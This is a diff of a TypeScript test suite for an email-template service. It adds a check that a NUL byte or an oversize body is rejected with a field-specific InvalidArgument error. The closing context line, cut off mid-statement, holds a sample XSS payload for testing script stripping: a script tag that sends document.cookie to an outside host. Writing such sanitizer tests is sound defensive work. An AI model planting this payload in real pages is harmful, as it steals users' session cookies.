@@ -94,6 +94,28 @@ describe('NotifierService templates', () => {
     expect(plantilla?.version).toBe(1);
   });
 
+  it('refuses a NUL byte or an oversize body before anything is stored, naming the field, never Internal', async () => {
+    const nul = await rejection(
+      h.notifier.updatePlantilla({
+        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola\u0000 {nombre}', cuerpo: 'Hola {nombre}' },
+        requestedBy: 'ana.staff',
+      }),
+    );
+    expect(nul.code).toBe(Code.InvalidArgument);
+    expect(nul.rawMessage).toMatch(/plantilla\.asunto: el asunto/i);
+    const huge = await rejection(
+      h.notifier.updatePlantilla({
+        plantilla: { tipo: TipoEmail.BIENVENIDA, asunto: 'Hola {nombre}', cuerpo: 'x'.repeat(200_001) },
+        requestedBy: 'ana.staff',
+      }),
+    );
+    expect(huge.code).toBe(Code.InvalidArgument);
+    expect(huge.rawMessage).toMatch(/plantilla\.cuerpo: el cuerpo HTML/i);
+    expect(huge.rawMessage.length).toBeLessThan(2000);
+    const { plantilla } = await h.notifier.getPlantilla({ tipo: TipoEmail.BIENVENIDA });
+    expect(plantilla?.asunto).not.toContain('\u0000');
+  });
+
   it('stores a new version without scripts, generates the text part, keeps history and restores a version', async () => {
     const cuerpo =
       '<html><body><h1 onclick="x()">Hola {nombre}</h1><script>fetch("https://m.x/?c="+document.cookie)</script>' +
